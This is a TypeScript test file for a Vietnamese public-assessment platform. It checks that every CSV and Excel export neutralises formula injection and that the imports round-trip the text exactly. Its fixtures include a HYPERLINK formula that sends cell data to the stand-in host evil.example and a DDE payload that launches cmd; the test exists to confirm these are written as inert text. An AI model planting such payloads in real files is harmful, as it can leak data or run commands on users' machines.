// Formula injection (issue 11, finding 11): every CSV and .xlsx the platform writes has its text cells
// that start like a formula (= + - @, after spaces too, tab, CR) written with a leading apostrophe;
// numbers stay numbers; and the importers give back exactly the text that was exported.
import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readAssessmentForm } from '../../../src/exchange/assessments/read-assessment-form.ts';
import { writeAssessmentForm } from '../../../src/exchange/assessments/write-assessment-form.ts';
import {
  needsFormulaGuard,
  neutralizeFormula,
  restoreFormulaText,
  safeCell,
} from '../../../src/exchange/formula-injection.ts';
import { readFrameworkFile } from '../../../src/exchange/frameworks/read-framework-file.ts';
import { writeFrameworkWorkbook } from '../../../src/exchange/frameworks/write-framework-workbook.ts';
import { writeUnitsWorkbook } from '../../../src/exchange/org-units/write-units-workbook.ts';
import { openDataCsv } from '../../../src/exchange/results/open-data-csv.ts';
import { writeOpenDataXlsx } from '../../../src/exchange/results/open-data-xlsx.ts';
import { writeRankingXlsx } from '../../../src/exchange/results/ranking-xlsx.ts';
import { buildScorecard } from '../../../src/exchange/results/scorecard-model.ts';
import { writeScorecardXlsx } from '../../../src/exchange/results/scorecard-xlsx.ts';
import type { ExportCampaign } from '../../../src/exchange/results/types.ts';
import { parseCsv, readTable } from '../../../src/exchange/tabular.ts';
import { framework, group, leaf } from '../framework/fixtures.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")';
const HOSTILE = [HYPERLINK, "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '  =1+1', "'=1+1"];

/** Every text cell of every sheet (merged slaves skipped). */
async function textCells(buf: Buffer): Promise<string[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  const out: string[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Merge) return;
        const v = cell.value;
        if (typeof v === 'string') out.push(v);
        else if (v && typeof v === 'object' && 'richText' in v) out.push(v.richText.map((r) => r.text).join(''));
      }),
    ),
  );
  return out;
}

const live = (text: string) => /^[\t\r]/.test(text) || /^[ \t\r\n]*[=+\-@]/.test(text);

const exportCampaign = (unitName: string): ExportCampaign =>
  ({
    name: '=Kỳ đánh giá',
    year: 2026,
    ownerName: '@UBND tỉnh',
    groups: [
      {
        group: { id: 'g', name: '-Nhóm xã' },
        nodes: new Map([['1', { code: '1', title: '+Hạ tầng số', maxPoints: 10 }]]) as never,
        units: [
          {
            unit: { id: 'u', code: 'X1', name: unitName },
            selfTotal: 5,
            finalTotal: -2.5,
            penaltyPoints: 0,
            finalAfterPenalty: -2.5,
            applicableMax: 10,
            percent: -25,
            band: { code: 'y', label: '=Yếu' },
            rank: 1,
            timing: 'on_time',
            submitted: true,
            lowestBandReason: null,
            items: [{ code: '1', self: -1, final: -2.5, notApplicable: false, replacementCode: '=1' }],
          },
        ],
      },
    ],
  }) as unknown as ExportCampaign;

async function streamed(write: (s: PassThrough) => Promise<void>): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await write(out);
  return Buffer.concat(chunks);
}

describe('the one helper', () => {
  it('prefixes text that starts like a formula, and only that', () => {
    for (const s of HOSTILE) expect(neutralizeFormula(s)).toBe(`'${s}`);
    for (const s of ['Xã Cẩm Bình', 'Sở Tư pháp (=)', "'Trích dẫn'", 'A-1', '', '12'])
      expect(neutralizeFormula(s)).toBe(s);
    expect(safeCell(-2.5)).toBe(-2.5);
    expect(safeCell(null)).toBeNull();
    expect(safeCell({ formula: 'SUM(E1:E3)', result: 3 })).toEqual({ formula: 'SUM(E1:E3)', result: 3 });
    expect(safeCell({ text: '=X', hyperlink: 'https://a.vn' })).toEqual({ text: "'=X", hyperlink: 'https://a.vn' });
    expect(safeCell({ richText: [{ text: '=' }, { text: '1+1' }] })).toEqual({
      richText: [{ text: "'=" }, { text: '1+1' }],
    });
  });

  it('restore(neutralize(s)) = s for every string; a neutralised cell never starts like a formula', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('=', '+', '-', '@', "'", ' ', '\t', '\r', '\n', 'a', 'Đ', '1') }),
        (s) => {
          expect(restoreFormulaText(neutralizeFormula(s))).toBe(s);
          expect(live(neutralizeFormula(s))).toBe(false);
          if (!needsFormulaGuard(s)) expect(restoreFormulaText(s)).toBe(s);
        },
      ),
      { numRuns: 2000 },
    );
  });
});

describe('every file the platform writes', () => {
  it('open-data.csv: the unit named =HYPERLINK(…) is inert text; negative numbers stay numbers', async () => {
    let csv = '';
    for await (const chunk of openDataCsv(exportCampaign(HYPERLINK))) csv += chunk;
    const lines = csv
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .filter(Boolean);
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Xem chi tiết"")"`);
    expect(lines[1]).toContain(',-2.5,');
    expect(lines[1]).toContain(',-25,');
    const raw = (await parseRaw(csv)).flat();
    expect(raw.filter((f) => live(f) && !/^-?\d+(\.\d+)?$/.test(f))).toEqual([]); // numbers are numbers
    expect(raw).toContain('-2.5');
  });

  it('open-data.xlsx, ranking, scorecard, unit list, index set and self-assessment form: no live text cell', async () => {
    const c = exportCampaign(HYPERLINK);
    const files = {
      openData: await streamed((s) => writeOpenDataXlsx(c, s)),
      ranking: await streamed((s) => writeRankingXlsx(c, s)),
      scorecard: await writeScorecardXlsx(
        buildScorecard(
          c,
          c.groups[0]!,
          c.groups[0]!.units[0]!,
          [{ code: '1', title: '+Hạ tầng số', maxPoints: 10 } as never],
          new Map([['1', '-thiếu minh chứng']]),
        ),
      ),
      units: await writeUnitsWorkbook([
        { code: 'X1', name: HYPERLINK, type: 'commune', parentCode: '@P', activeFrom: null, activeTo: null },
      ]),
      framework: await writeFrameworkWorkbook(
        framework([leaf('1', 10, undefined, '=Tiêu chí')], { name: '+Bộ chỉ số' }),
      ),
      form: await writeAssessmentForm(
        framework([leaf('1', 10, undefined, '-Tiêu chí')]),
        new Map([['1', { inputs: {}, selfScore: -1, explanation: '=1+1', version: 3 }]]),
        {
          assessmentId: 'a',
          unitCode: 'X1',
          unitName: HYPERLINK,
          campaignName: '@Kỳ',
          periodFrom: '01/11/2025',
          periodTo: '01/11/2026',
          preparedBy: '+Người',
          exportedOn: '01/12/2026',
          exportedAt: '2026-12-01T00:00:00Z',
        },
      ),
    };
    for (const [name, buf] of Object.entries(files)) {
      const texts = await textCells(buf);
      expect(texts.filter(live), name).toEqual([]);
      expect(
        texts.some((t) => t.startsWith("'")),
        name,
      ).toBe(true);
    }
    const ranking = new ExcelJS.Workbook();
    await ranking.xlsx.load(files.ranking as unknown as ArrayBuffer);
    const unitRow = ranking.worksheets[0]!.getRow(6);
    expect(unitRow.getCell(2).value).toBe(`'${HYPERLINK}`);
    expect(unitRow.getCell(4).value).toBe(-2.5); // a number, not text
  });
});

describe('what was exported imports back exactly', () => {
  it('a unit list with hostile names: same text after export → import', async () => {
    const names = [HYPERLINK, '-Xã', "'=đã có dấu nháy", 'Xã Cẩm Bình'];
    const buf = await writeUnitsWorkbook(
      names.map((name, i) => ({
        code: `X${i}`,
        name,
        type: 'commune',
        parentCode: null,
        activeFrom: null,
        activeTo: null,
      })),
    );
    const table = await readTable(buf);
    expect(table.ok && table.rows.slice(1).map((r) => r.cells[1])).toEqual(names);
  });

  it('the same through CSV (a spreadsheet program saves the export as CSV)', () => {
    const csv = `Mã,Tên\nX1,"'=HYPERLINK(""a"")"\nX2,'-Xã\nX3,-5\n`;
    const read = parseCsv(csv);
    expect(read.ok && read.rows.map((r) => r.cells[1])).toEqual(['Tên', '=HYPERLINK("a")', '-Xã', '-5']);
  });

  it('an index set and a self-assessment form with hostile text round-trip unchanged', async () => {
    const def = framework([group('1', 10, [leaf('1.1', 10, undefined, '=Tiêu chí')], '-Nhóm')], {
      name: '+Bộ chỉ số',
      notes: '@ghi chú',
    });
    const back = await readFrameworkFile(await writeFrameworkWorkbook(def));
    expect(back.ok && back.definition.nodes[0]!.title).toBe('-Nhóm');
    expect(back.ok && back.definition.nodes[0]!.children![0]!.title).toBe('=Tiêu chí');
    expect(back.ok && [back.definition.name, back.definition.notes]).toEqual(['+Bộ chỉ số', '@ghi chú']);
    const form = await writeAssessmentForm(
      def,
      new Map([
        ['1.1', { inputs: {}, selfScore: 4, explanation: '- Đã ban hành kế hoạch\n- Đã triển khai', version: 2 }],
      ]),
      {
        assessmentId: 'a',
        unitCode: 'X1',
        unitName: 'Xã',
        campaignName: 'Kỳ',
        periodFrom: '',
        periodTo: '',
        preparedBy: '',
        exportedOn: '',
        exportedAt: '',
      },
    );
    const read = await readAssessmentForm(form);
    expect(read.ok && read.rows.find((r) => r.code === '1.1')?.explanation).toBe(
      '- Đã ban hành kế hoạch\n- Đã triển khai',
    );
  });
});

/** CSV fields exactly as written (no trimming, no restoring): what a spreadsheet program sees. */
async function parseRaw(csv: string): Promise<string[][]> {
  const rows: string[][] = [];
  let cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const ch = csv[i]!;
    if (quoted) {
      if (ch === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      cells.push(cell);
      cell = '';
    } else if (ch === '\n') {
      cells.push(cell.replace(/\r$/, ''));
      rows.push(cells);
      cells = [];
      cell = '';
    } else cell += ch;
  }
  return rows;
}
